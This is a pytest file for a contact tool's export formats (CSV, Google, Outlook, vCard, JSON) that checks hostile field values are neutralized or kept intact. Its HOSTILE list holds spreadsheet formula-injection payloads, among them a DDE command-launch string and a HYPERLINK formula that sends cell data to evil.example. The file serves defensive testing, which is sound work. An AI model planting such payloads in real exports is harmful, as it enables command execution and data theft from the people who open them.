"""Every export format read back with an independent parser: the csv module
(utf-8-sig) for the CSVs, vobject for vCard 3.0 and 4.0, json for JSON, and
LibreOffice headless converting the spreadsheet CSV to a workbook read back
with openpyxl. Hostile values in every field survive intact (vCard, JSON) or
neutralized as documented in cardpipe/export.py (CSVs), and never run."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import vobject
from click.testing import CliRunner

from cardpipe import export, service
from cardpipe.cli import cli
from cardpipe.clock import FixedClock
from cardpipe.config import EXPORT_FORMATS, Config, load_config
from cardpipe.contacts.store import SqliteStore
from cardpipe.errors import ConfigError, ExitCode
from cardpipe.models import Address, CardResult, Contact, ContactRecord, DueItem, Phone

TODAY = dt.date(2026, 12, 1)
MET = dt.date(2026, 11, 20)

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "  @x",
    "＝1+1",
    'She said "hi", then left',
    "a,b;c",
    "line one\nline two",
    "emoji 😀🎉 end",
    "שלום עולם",
    "Jürgen Müller",
    "山田太郎",
]

# The rule the CSVs follow, restated here from OWASP's guidance rather than imported:
# a cell starting with = + - @ tab CR LF (or their full-width forms), also after
# leading whitespace, gets a leading apostrophe.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def neutralized(value: str) -> str:
    return "'" + value if value.startswith(TRIGGERS) or value.lstrip().startswith(TRIGGERS) else value


def vtext(value: str) -> str:
    """What a vCard text value reads back as: line breaks as LF."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def one_line(value: str) -> str:
    return " ".join(value.split())


def hostile_contact(i: int, v: str) -> Contact:
    rec = ContactRecord(
        name=v,
        given_name=v,
        family_name=v,
        title=v,
        company=v,
        emails=(v,),
        phones=(Phone("+442079460958", "work", "020 7946 0958"),),
        website=v,
        address=Address(v, street=v, city=v, region=v, postcode=v, country=v),
        social=(("linkedin", v),),
    )
    return Contact(id=i, record=rec, card_ids=(i,), first_met=MET, event=v, notes=v, past_companies=(v,))


HOSTILE_CONTACTS = [hostile_contact(i, v) for i, v in enumerate(HOSTILE, 1)]

PHONES = [  # e164, type, how the CSVs show it
    ("+442079460958", "work", "+44 20 7946 0958"),
    ("+14155550132", "mobile", "+1 415 555 0132"),
    ("+390669812345", "fax", "+39 06 6981 2345"),  # the leading zero of Rome's area code stays
    ("+420123456789", "other", "+420 123456789"),
    ("+61425713685", "mobile", "+61 425 713685"),  # not "+61 425 713 685": no thousands separators
    ("+81312345678", "other", "+81 3 1234 5678"),
]


def phone_contact(cid: int = 100) -> Contact:
    rec = ContactRecord(
        name="Ann Lee",
        given_name="Ann",
        family_name="Lee",
        title="CTO",
        company="Acme",
        emails=("ann@acme.com", "ann.lee@gmail.com", "al@acme.co.uk", "ann@lee.dev"),
        phones=tuple(Phone(e, t, e) for e, t, _ in PHONES),
        website="www.acme.com",
        address=Address("1 Main St, Springfield, IL 62701, US", "1 Main St", "Springfield", "IL", "62701", "US"),
        social=(("linkedin", "https://www.linkedin.com/in/annlee"), ("twitter", "@annlee")),
    )
    return Contact(id=cid, record=rec, card_ids=(5, 6), first_met=MET, event="Web Summit; day 2", notes="Wants a demo")


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def write_and_read(tmp_path: Path, fmt: str, contacts: list[Contact], **opts) -> tuple[bytes, str]:
    """Write the format as `cardpipe run` does and read the file back as bytes and decoded text."""
    f = export.FORMATS[fmt]
    path = tmp_path / f.filename
    export.write_text(path, export.render(fmt, contacts, export.ExportOptions(**opts)), encoding=f.encoding)
    raw = path.read_bytes()
    return raw, raw.decode("utf-8-sig")


# ---------------------------------------------------------------------------
# The registry
# ---------------------------------------------------------------------------


def test_every_configurable_format_has_a_writer_and_a_file_name():
    assert set(export.FORMATS) == set(EXPORT_FORMATS)
    names = [f.filename for f in export.FORMATS.values()]
    assert names == ["contacts.csv", "contacts-google.csv", "contacts-outlook.csv", "contacts.vcf", "contacts.json"]


# ---------------------------------------------------------------------------
# Phone numbers
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("e164, kind, text", PHONES)
def test_phone_text_is_international_format_grouped_by_spaces(e164, kind, text):
    assert export.phone_text(e164) == text
    assert export.cell(export.PhoneText(text)) == text  # no apostrophe: it cannot be a formula
    assert re.sub(r"\D", "", text) == e164[1:]  # nothing lost


@pytest.mark.parametrize("junk", ["=1+1", "+12", "+44 20 7946 0958 =A1", "+1 234 567", "+44 20\n7946"])
def test_phone_columns_neutralize_anything_that_is_not_a_formatted_number(junk):
    assert export.cell(export.PhoneText(junk)) == neutralized(junk)


def test_spreadsheet_csv_phone_columns():
    rows = read_csv(export.contacts_csv([phone_contact()]))
    (row,) = rows
    assert row["work_phone"] == "+44 20 7946 0958"
    assert row["mobile_phone"] == "+1 415 555 0132"
    assert row["fax"] == "+39 06 6981 2345"
    assert row["other_phones"] == "+61 425 713685; +420 123456789; +81 3 1234 5678"
    due = DueItem(100, "Ann Lee", "Acme", "ann@acme.com", "+14155550132", MET, None, MET, 3, None, 0)
    assert read_csv(export.due_csv([due]))[0]["phone"] == "+1 415 555 0132"


# ---------------------------------------------------------------------------
# The spreadsheet CSV: contacts.csv
# ---------------------------------------------------------------------------

TEXT_COLUMNS = (
    "name", "given_name", "family_name", "title", "company", "email", "website", "address", "street",
    "city", "region", "postcode", "country", "linkedin", "event", "notes", "past_companies",
)  # fmt: skip


def test_spreadsheet_csv_bom_crlf_quoting_and_hostile_values(tmp_path):
    raw, text = write_and_read(tmp_path, "csv", HOSTILE_CONTACTS)
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the BOM
    assert raw[3:].startswith(b'"contact_id","name",')  # every field quoted (RFC 4180 allows it; OWASP asks it)
    # records end with CRLF; a bare LF or CR only inside a quoted cell
    assert text.count("\r\n") >= len(HOSTILE) + 1
    rows = read_csv(text)
    assert list(rows[0]) == list(export.CONTACT_COLUMNS)
    assert len(rows) == len(HOSTILE)
    for row, v in zip(rows, HOSTILE, strict=True):
        for col in TEXT_COLUMNS:
            assert row[col] == neutralized(v), (col, v)
        assert row["work_phone"] == "+44 20 7946 0958"


def test_spreadsheet_csv_keeps_its_documented_columns():
    first = (
        "contact_id", "name", "given_name", "family_name", "title", "company", "email", "other_emails",
        "work_phone", "mobile_phone", "fax", "other_phones", "website", "address", "street", "city", "region",
        "postcode", "country", "linkedin", "twitter", "instagram", "event", "first_met", "last_followup",
        "followups", "notes", "past_companies", "review", "cards",
    )  # fmt: skip
    assert export.CONTACT_COLUMNS[: len(first)] == first  # scripts read these: only ever add at the end
    assert export.CONTACT_COLUMNS[len(first) :] == ("next_followup", "days_overdue", "done")


def test_spreadsheet_csv_follow_up_columns():
    ann = phone_contact(1)
    bob = Contact(id=2, record=ContactRecord(name="Bob"), card_ids=(9,), first_met=MET)
    cy = Contact(id=3, record=ContactRecord(name="Cy"), card_ids=(10,), first_met=MET, done=True)
    schedule = {
        1: DueItem(1, "Ann Lee", None, None, None, MET, None, dt.date(2026, 11, 27), 4, None, 0),
        2: DueItem(2, "Bob", None, None, None, MET, None, dt.date(2026, 12, 20), -19, None, 1),
    }
    rows = {r["contact_id"]: r for r in read_csv(export.contacts_csv([ann, bob, cy], schedule))}
    assert (rows["1"]["next_followup"], rows["1"]["days_overdue"], rows["1"]["done"]) == ("2026-11-27", "4", "")
    assert (rows["2"]["next_followup"], rows["2"]["days_overdue"], rows["2"]["done"]) == ("2026-12-20", "", "")
    assert (rows["3"]["next_followup"], rows["3"]["days_overdue"], rows["3"]["done"]) == ("", "", "yes")


# ---------------------------------------------------------------------------
# Google Contacts CSV
# ---------------------------------------------------------------------------


def test_google_csv_headers_and_values():
    rows = read_csv(export.render("google", [phone_contact()]))
    (row,) = rows
    assert list(row)[:17] == list(export.GOOGLE_HEAD)
    assert (row["First Name"], row["Last Name"]) == ("Ann", "Lee")
    assert (row["Organization Name"], row["Organization Title"]) == ("Acme", "CTO")
    assert row["Labels"] == "* myContacts ::: Web Summit; day 2"
    # several values of a kind: numbered groups, as Google's own export writes them
    assert [row[f"E-mail {i} - Value"] for i in range(1, 5)] == list(phone_contact().record.emails)
    assert {row[f"E-mail {i} - Label"] for i in range(1, 5)} == {"Work"}
    phones = [(row[f"Phone {i} - Label"], row[f"Phone {i} - Value"]) for i in range(1, 7)]
    assert phones == [  # mobile, work, other, fax
        ("Mobile", "+1 415 555 0132"),
        ("Mobile", "+61 425 713685"),
        ("Work", "+44 20 7946 0958"),
        ("Other", "+420 123456789"),
        ("Other", "+81 3 1234 5678"),
        ("Work Fax", "+39 06 6981 2345"),
    ]
    assert row["Address 1 - Label"] == "Work"
    assert row["Address 1 - Street"] == "1 Main St" and row["Address 1 - City"] == "Springfield"
    assert row["Address 1 - Region"] == "IL" and row["Address 1 - Postal Code"] == "62701"
    assert row["Address 1 - Country"] == "United States"
    assert (row["Website 1 - Label"], row["Website 1 - Value"]) == ("Work", "www.acme.com")
    assert (row["Website 2 - Label"], row["Website 2 - Value"]) == ("LinkedIn", "https://www.linkedin.com/in/annlee")
    assert row["Notes"] == "Met on 2026-11-20 at Web Summit; day 2.\nWants a demo\nTwitter: @annlee"


def test_google_csv_hostile_values(tmp_path):
    raw, text = write_and_read(tmp_path, "google", HOSTILE_CONTACTS)
    assert raw.startswith(b'"First Name"')  # no BOM: Google's importer must see "First Name"
    rows = read_csv(text)
    for row, v in zip(rows, HOSTILE, strict=True):
        for col in ("First Name", "Last Name", "Organization Name", "Organization Title", "E-mail 1 - Value",
                    "Address 1 - Formatted", "Address 1 - City", "Address 1 - Region", "Address 1 - Postal Code",
                    "Address 1 - Country"):  # fmt: skip
            assert row[col] == neutralized(v), (col, v)
        label = re.sub(r"\s*:::\s*", ": ", one_line(v))
        assert row["Labels"] == f"* myContacts ::: {label}"
        assert row["Notes"].startswith("Met on 2026-11-20 at ")
        assert v.strip() in row["Notes"] and f"Website: {v}" in row["Notes"]


# ---------------------------------------------------------------------------
# Outlook CSV
# ---------------------------------------------------------------------------


def test_outlook_csv_headers_and_values(tmp_path):
    raw, text = write_and_read(tmp_path, "outlook", [phone_contact()])
    assert raw.startswith(b"\xef\xbb\xbf")  # Outlook reads non-ASCII only with the BOM
    (row,) = read_csv(text)
    assert tuple(row) == export.OUTLOOK_COLUMNS
    assert row["Title"] == ""  # Outlook's "Title" is Dr./Ms.; the job title has its own column
    assert (row["First Name"], row["Last Name"], row["Company"], row["Job Title"]) == ("Ann", "Lee", "Acme", "CTO")
    assert row["Business Phone"] == "+44 20 7946 0958"
    assert row["Mobile Phone"] == "+1 415 555 0132"
    assert row["Business Fax"] == "+39 06 6981 2345"
    assert row["Other Phone"] == "+61 425 713685"  # the second mobile, before numbers of other types
    assert [row["E-mail Address"], row["E-mail 2 Address"], row["E-mail 3 Address"]] == [
        "ann@acme.com",
        "ann.lee@gmail.com",
        "al@acme.co.uk",
    ]
    assert row["E-mail Type"] == "SMTP" and row["E-mail Display Name"] == "Ann Lee (ann@acme.com)"
    assert row["Business Street"] == "1 Main St" and row["Business Country/Region"] == "United States"
    assert row["Web Page"] == "www.acme.com"
    assert row["Categories"] == "Web Summit, day 2"  # ";" would split it into two categories
    # what has no slot of its own is kept in Notes, not dropped
    notes = row["Notes"].split("\n")
    assert notes[:2] == ["Met on 2026-11-20 at Web Summit; day 2.", "Wants a demo"]
    assert "Phone (other): +420 123456789" in notes and "Phone (other): +81 3 1234 5678" in notes
    assert "E-mail: ann@lee.dev" in notes
    assert "LinkedIn: https://www.linkedin.com/in/annlee" in notes and "Twitter: @annlee" in notes


def test_outlook_csv_hostile_values(tmp_path):
    _, text = write_and_read(tmp_path, "outlook", HOSTILE_CONTACTS)
    for row, v in zip(read_csv(text), HOSTILE, strict=True):
        for col in ("First Name", "Last Name", "Company", "Job Title", "E-mail Address", "Business Street",
                    "Business City", "Business State", "Business Postal Code", "Business Country/Region"):  # fmt: skip
            assert row[col] == neutralized(v), (col, v)
        assert row["Categories"] == neutralized(one_line(v).replace(";", ","))
        assert v.strip() in row["Notes"]


# ---------------------------------------------------------------------------
# vCard
# ---------------------------------------------------------------------------


def check_vcard_lines(raw: bytes) -> None:
    """CRLF only; every physical line at most 75 octets and whole UTF-8 (RFC 2426 / 6350 folding)."""
    assert b"\n" not in raw.replace(b"\r\n", b"")
    assert b"\r" not in raw.replace(b"\r\n", b"")
    for line in raw.split(b"\r\n"):
        assert len(line) <= 75, line
        line.decode("utf-8")  # a fold never splits a character


@pytest.mark.parametrize("version", ["3.0", "4.0"])
def test_vcard_fields(tmp_path, version):
    raw, text = write_and_read(tmp_path, "vcard", [phone_contact()], vcard_version=version)
    assert not raw.startswith(b"\xef\xbb\xbf")
    check_vcard_lines(raw)
    (card,) = list(vobject.readComponents(text))
    assert card.version.value == version
    assert card.fn.value == "Ann Lee"
    assert (card.n.value.family, card.n.value.given) == ("Lee", "Ann")
    assert card.org.value == ["Acme"] and card.title.value == "CTO"
    tels = [(t.value, sorted(x.lower() for x in t.params.get("TYPE", []))) for t in card.contents["tel"]]
    if version == "3.0":
        assert tels == [  # mobile, work, other, fax: the first mobile is the one to dial
            ("+1 415 555 0132", ["cell", "pref", "voice"]),
            ("+61 425 713685", ["cell", "voice"]),
            ("+44 20 7946 0958", ["voice", "work"]),
            ("+420 123456789", ["voice"]),
            ("+81 3 1234 5678", ["voice"]),
            ("+39 06 6981 2345", ["fax", "work"]),
        ]
    else:
        order = ["+14155550132", "+61425713685", "+442079460958", "+420123456789", "+81312345678", "+390669812345"]
        assert [v for v, _ in tels] == [f"tel:{e}" for e in order]
        assert [t for _, t in tels][:3] == [["cell", "voice"], ["cell", "voice"], ["voice", "work"]]
        assert [t for _, t in tels][-1] == ["fax", "work"]
        assert all(t.params["VALUE"] == ["uri"] for t in card.contents["tel"])
        assert card.contents["tel"][0].params["PREF"] == ["1"]
    assert [e.value for e in card.contents["email"]] == list(phone_contact().record.emails)
    adr = card.adr.value
    assert (adr.street, adr.city, adr.region, adr.code, adr.country) == (
        "1 Main St", "Springfield", "IL", "62701", "United States",
    )  # fmt: skip
    assert [u.value for u in card.contents["url"]] == ["https://www.acme.com", "https://www.linkedin.com/in/annlee"]
    assert card.note.value == "Met on 2026-11-20 at Web Summit; day 2.\nWants a demo\nTwitter: @annlee"
    assert card.categories.value == ["Web Summit; day 2"]


@pytest.mark.parametrize("version", ["3.0", "4.0"])
@pytest.mark.parametrize(
    ("phones", "pref"),
    [
        ((("+390669812345", "fax"), ("+442079460958", "work")), "+442079460958"),  # a fax read first
        ((("+390669812345", "fax"), ("+420123456789", "other")), "+420123456789"),
        ((("+390669812345", "fax"),), None),  # a fax alone is never the number to dial
    ],
)
def test_vcard_pref_is_never_a_fax(tmp_path, version, phones, pref):
    c = phone_contact()
    c = dataclasses.replace(c, record=dataclasses.replace(c.record, phones=tuple(Phone(e, t, e) for e, t in phones)))
    _, text = write_and_read(tmp_path, "vcard", [c], vcard_version=version)
    (card,) = list(vobject.readComponents(text))
    preferred = [t.value for t in card.contents["tel"]
                 if "PREF" in [x.upper() for x in t.params.get("TYPE", [])] or t.params.get("PREF")]
    if pref is None:
        assert preferred == []
    else:
        assert len(preferred) == 1 and preferred[0].replace(" ", "").removeprefix("tel:") == pref


@pytest.mark.parametrize("version", ["3.0", "4.0"])
def test_vcard_hostile_values_survive_intact(tmp_path, version):
    raw, text = write_and_read(tmp_path, "vcard", HOSTILE_CONTACTS, vcard_version=version)
    check_vcard_lines(raw)
    cards = list(vobject.readComponents(text))
    assert len(cards) == len(HOSTILE)
    for card, v in zip(cards, HOSTILE, strict=True):
        want = vtext(v)
        assert card.fn.value == want
        assert (card.n.value.family, card.n.value.given) == (want, want)
        assert card.org.value == [want] and card.title.value == want
        assert card.email.value == want
        adr = card.adr.value
        assert (adr.street, adr.city, adr.region, adr.code, adr.country) == (want,) * 5
        assert card.categories.value == [want]
        assert vtext(v.strip()) in card.note.value and f"Website: {want}" in card.note.value
        assert "url" not in card.contents  # not a URL: kept in NOTE instead


def test_vcard_folds_long_lines_without_splitting_characters(tmp_path):
    long = "😀山田Müller " * 40
    c = Contact(id=1, record=ContactRecord(name=long, title="x" * 300), notes=long)
    raw, text = write_and_read(tmp_path, "vcard", [c])
    check_vcard_lines(raw)
    (card,) = list(vobject.readComponents(text))
    assert card.fn.value == long and card.title.value == "x" * 300


def test_vcard_of_a_company_card_without_a_person():
    c = Contact(id=1, record=ContactRecord(company="Acme GmbH", emails=("info@acme.de",)))
    v3 = next(vobject.readComponents(export.vcard([c], "3.0")))
    v4 = next(vobject.readComponents(export.vcard([c], "4.0")))
    assert v3.fn.value == v4.fn.value == "Acme GmbH"
    assert v3.contents["x-abshowas"][0].value == "COMPANY"  # Apple Contacts lists it under the company
    assert v4.kind.value == "org"


# ---------------------------------------------------------------------------
# JSON
# ---------------------------------------------------------------------------


def test_json_hostile_values_survive_intact(tmp_path):
    raw, text = write_and_read(tmp_path, "json", HOSTILE_CONTACTS)
    assert not raw.startswith(b"\xef\xbb\xbf")
    items = json.loads(raw.decode("utf-8"))
    for item, v in zip(items, HOSTILE, strict=True):
        assert item["name"] == item["company"] == item["title"] == item["event"] == item["notes"] == v
        assert item["emails"] == [v] and item["address"]["city"] == v and item["past_companies"] == [v]
        assert item["phones"] == [{"e164": "+442079460958", "type": "work", "text": "+44 20 7946 0958", "extension": None}]


# ---------------------------------------------------------------------------
# LibreOffice: the spreadsheet CSV opened by a real spreadsheet
# ---------------------------------------------------------------------------

# CSV import options (LibreOffice's filter tokens): comma, double quote, UTF-8, from line 1,
# no column types, en-US, quoted fields NOT forced to text, detect special numbers ON,
# -, -, don't trim spaces, -, evaluate formulas ON. The worst case: what could become a
# number or a formula does.
LO_CSV_FILTER = "CSV:44,34,76,1,,en-US,false,true,,,false,,true"


@pytest.fixture(scope="module")
def soffice(tmp_path_factory):
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        pytest.fail(
            "LibreOffice (soffice) is not installed; run `make test`, which installs it "
            "(scripts/system-deps.sh --test installs libreoffice-calc-nogui)."
        )
    profile = tmp_path_factory.mktemp("lo-profile")

    def convert(*csv_files: Path) -> list[Path]:
        outdir = csv_files[0].parent
        r = subprocess.run(
            [exe, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
             f"--infilter={LO_CSV_FILTER}", "--convert-to", "xlsx", "--outdir", str(outdir), *map(str, csv_files)],
            capture_output=True, text=True, timeout=300, env={**os.environ, "HOME": str(profile)},
        )  # fmt: skip
        out = [p.with_suffix(".xlsx") for p in csv_files]
        assert all(p.exists() for p in out), r.stdout + r.stderr
        return out

    return convert


def test_libreoffice_keeps_every_cell_as_data_and_phones_as_text(tmp_path, soffice):
    try:
        import openpyxl
    except ImportError:
        pytest.fail("openpyxl is not installed; run `make test` (it installs the test extra: pip install -e '.[test]').")
    contacts = [*HOSTILE_CONTACTS, phone_contact()]
    export.write_text(tmp_path / "contacts.csv", export.contacts_csv(contacts))
    due = [DueItem(c.id, c.record.name, c.record.company, None, p, MET, c.event, MET, 11, None, 0)
           for c, p in zip(contacts, [e for e, _, _ in PHONES] * 4, strict=False)]  # fmt: skip
    export.write_text(tmp_path / "due.csv", export.due_csv(due))
    contacts_xlsx, due_xlsx = soffice(tmp_path / "contacts.csv", tmp_path / "due.csv")

    ws = openpyxl.load_workbook(contacts_xlsx).active
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    assert header == list(export.CONTACT_COLUMNS)
    formulas = [(c.coordinate, c.value) for row in rows for c in row if c.data_type == "f"]
    assert formulas == []  # nothing runs
    for row, v in zip(rows[1:], HOSTILE, strict=False):
        cells = dict(zip(header, row, strict=True))
        for col in TEXT_COLUMNS:
            assert cells[col].data_type == "s", (col, v, cells[col].value)
            # (a CR inside a cell comes back as LibreOffice's line break, LF)
            assert cells[col].value == neutralized(v).replace("\r", "\n"), (col, v)
        assert cells["work_phone"].value == "+44 20 7946 0958" and cells["work_phone"].data_type == "s"
    ann = dict(zip(header, rows[-1], strict=True))
    for col, want in [("work_phone", PHONES[0][2]), ("mobile_phone", PHONES[1][2]), ("fax", PHONES[2][2]),
                      ("other_phones", f"{PHONES[4][2]}; {PHONES[3][2]}; {PHONES[5][2]}")]:  # fmt: skip
        assert ann[col].data_type == "s" and ann[col].value == want, (col, ann[col].value)

    ws = openpyxl.load_workbook(due_xlsx).active
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    assert [(c.coordinate, c.value) for row in rows for c in row if c.data_type == "f"] == []
    phones = [dict(zip(header, row, strict=True))["phone"] for row in rows[1:]]
    assert [(p.data_type, p.value) for p in phones] == [("s", t) for _, _, t in (PHONES * 4)[: len(phones)]]


# ---------------------------------------------------------------------------
# The command line and `cardpipe run`'s exports
# ---------------------------------------------------------------------------


def fill_store(db: Path) -> None:
    store = SqliteStore(db)
    now = dt.datetime(2026, 11, 20, 9, 0, tzinfo=dt.UTC)
    try:
        for i, c in enumerate([phone_contact(), hostile_contact(0, "=HYPERLINK(\"x\")")]):
            result = CardResult(source=f"card{i}.jpg", card=0, record=c.record, ocr_text="", ocr_conf=90.0)
            with store.transaction():
                store.add_file(f"sha{i}", result.source, status="done", at=now)
                store.add_card(f"sha{i}", result, collected_on=MET, scanned_at=now, event="Web Summit")
    finally:
        store.close()


@pytest.fixture
def db(tmp_path) -> Path:
    path = tmp_path / "cardpipe.db"
    fill_store(path)
    return path


def invoke(*args: str):
    return CliRunner().invoke(cli, list(args), obj={"clock": FixedClock(TODAY)}, env={"CARDPIPE_CONFIG": None})


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_export_command_writes_each_format(tmp_path, db, fmt):
    out = tmp_path / "out" / f"x.{fmt}"
    r = invoke("export", "--db", str(db), "--format", fmt, "-o", str(out))
    assert r.exit_code == 0, r.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == (fmt in ("csv", "outlook"))
    text = raw.decode("utf-8-sig")
    if fmt == "json":
        assert sorted(c["name"] for c in json.loads(text)) == ['=HYPERLINK("x")', "Ann Lee"]
    elif fmt == "vcard":
        assert sorted(c.fn.value for c in vobject.readComponents(text)) == ['=HYPERLINK("x")', "Ann Lee"]
    else:
        assert len(read_csv(text)) == 2
    assert [p.name for p in out.parent.iterdir()] == [out.name]  # no temporary file left behind
    # stdout gets the same contents, without the BOM
    r = invoke("export", "--db", str(db), "--format", fmt)
    assert r.exit_code == 0 and r.stdout_bytes.decode("utf-8") == text


def test_export_command_vcard_version_and_mistakes(tmp_path, db):
    r = invoke("export", "--db", str(db), "--format", "vcard", "--vcard-version", "4.0")
    assert r.exit_code == 0
    assert {c.version.value for c in vobject.readComponents(r.output)} == {"4.0"}

    r = invoke("export", "--db", str(db), "--format", "csv", "--vcard-version", "4.0")
    assert r.exit_code == ExitCode.usage
    assert r.output.strip() == "cardpipe: error: --vcard-version goes with --format vcard."

    blocker = tmp_path / "file"
    blocker.write_text("x")
    r = invoke("export", "--db", str(db), "--format", "json", "-o", str(blocker / "contacts.json"))
    assert r.exit_code == ExitCode.cant_create
    assert len(r.output.strip().splitlines()) == 1 and "Traceback" not in r.output
    assert r.output.startswith(f"cardpipe: error: cannot write {blocker / 'contacts.json'}")


def test_export_csv_has_the_follow_up_columns_as_of_the_clock(db):
    r = invoke("export", "--db", str(db), "--format", "csv")
    rows = read_csv(r.output)
    # met 2026-11-20, 7-day window: due 2026-11-27, 4 days overdue on 2026-12-01
    assert {(row["next_followup"], row["days_overdue"]) for row in rows} == {("2026-11-27", "4")}


def test_run_writes_the_formats_the_config_lists(tmp_path, db):
    cfg = Config(db=db, output=tmp_path / "output", formats=("google", "vcard", "json", "outlook"), vcard_version="4.0")
    store = SqliteStore(db)
    try:
        due, written = service.write_exports(store, cfg, FixedClock(TODAY))
    finally:
        store.close()
    names = {Path(p).name for p in written}
    assert {"contacts.csv", "due.csv", "contacts-google.csv", "contacts-outlook.csv", "contacts.vcf",
            "contacts.json"} <= names  # fmt: skip
    assert due == 2
    vcf = (cfg.output / "contacts.vcf").read_text(encoding="utf-8")
    assert {c.version.value for c in vobject.readComponents(vcf)} == {"4.0"}
    assert not [p for p in cfg.output.iterdir() if p.name.startswith(".")]  # no temporary files

    plain = Config(db=db, output=tmp_path / "plain")
    store = SqliteStore(db)
    try:
        service.write_exports(store, plain, FixedClock(TODAY))
    finally:
        store.close()
    assert not (plain.output / "contacts.vcf").exists() and (plain.output / "contacts.csv").exists()


def test_config_refuses_an_unknown_vcard_version(tmp_path):
    cfg = tmp_path / "c.toml"
    cfg.write_text('vcard_version = "2.1"\n')
    with pytest.raises(ConfigError, match="vcard_version must be 3.0 or 4.0"):
        load_config(cfg)
    cfg.write_text('vcard_version = "4.0"\nformats = ["csv", "vcard"]\n')
    assert load_config(cfg).vcard_version == "4.0"


# ---------------------------------------------------------------------------
# Phones in every export: mobile, work, other, fax; the number to call is never a fax
# ---------------------------------------------------------------------------


def test_other_phones_follow_the_order_of_every_export():
    two_of_each = [("+442079460958", "work"), ("+390669812345", "fax"), ("+14155550132", "mobile"),
                   ("+442079460959", "work"), ("+390669812346", "fax"), ("+420123456789", "other"),
                   ("+61425713685", "mobile")]  # fmt: skip
    c = dataclasses.replace(phone_contact(), record=dataclasses.replace(
        phone_contact().record, phones=tuple(Phone(e, t, e) for e, t in two_of_each)))
    (row,) = read_csv(export.contacts_csv([c]))
    assert (row["mobile_phone"], row["work_phone"], row["fax"]) == ("+1 415 555 0132", "+44 20 7946 0958", "+39 06 6981 2345")
    assert row["other_phones"] == "+61 425 713685; +44 20 7946 0959; +420 123456789; +39 06 6981 2346"


@pytest.mark.parametrize(
    "phones, call",
    [
        ((("+390669812345", "fax"), ("+442079460958", "work"), ("+14155550132", "mobile")), "+14155550132"),
        ((("+390669812345", "fax"), ("+442079460958", "work")), "+442079460958"),
        ((("+390669812345", "fax"), ("+420123456789", "other")), "+420123456789"),
        ((("+390669812345", "fax"),), None),
        ((), None),
    ],
)
def test_the_due_list_shows_a_number_to_call_never_a_fax(phones, call):
    from cardpipe.followup.due import schedule

    c = dataclasses.replace(phone_contact(), record=dataclasses.replace(
        phone_contact().record, phones=tuple(Phone(e, t, e) for e, t in phones)))
    (item,) = schedule([(c, [MET], [])], MET + dt.timedelta(days=30), days=7)
    assert item.phone == call
    assert read_csv(export.due_csv([item]))[0]["phone"] == (export.phone_text(call) if call else "")
